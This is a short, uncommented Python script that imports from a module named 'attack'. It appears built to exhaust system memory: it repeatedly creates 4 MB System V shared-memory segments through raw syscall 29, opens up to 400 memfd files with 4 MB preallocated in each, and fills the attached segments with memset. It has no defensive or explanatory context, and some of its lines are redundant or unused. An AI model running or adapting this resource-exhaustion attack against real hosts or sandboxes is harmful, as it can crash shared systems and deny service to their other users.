import ctypes, os
from attack import call, libc
held = []
for i in range(400):
    _, error = call(29, 194, 0, 4_000_000, 0o1600)
    libc.shmat.restype = ctypes.c_void_p
for i in range(400):
    try: file = os.memfd_create("x")
    except OSError: break
    held.append(file)
    os.posix_fallocate(file, 0, 4_000_000)
identity = 0
for segment in range(400):
    result, _ = call(29, 194, 0, 4_000_000, 0o1600)
    if result < 0: break
    at = libc.shmat(result, None, 0)
    if at and at != ctypes.c_void_p(-1).value: ctypes.memset(at, 1, 4_000_000)
raise SystemExit(1)
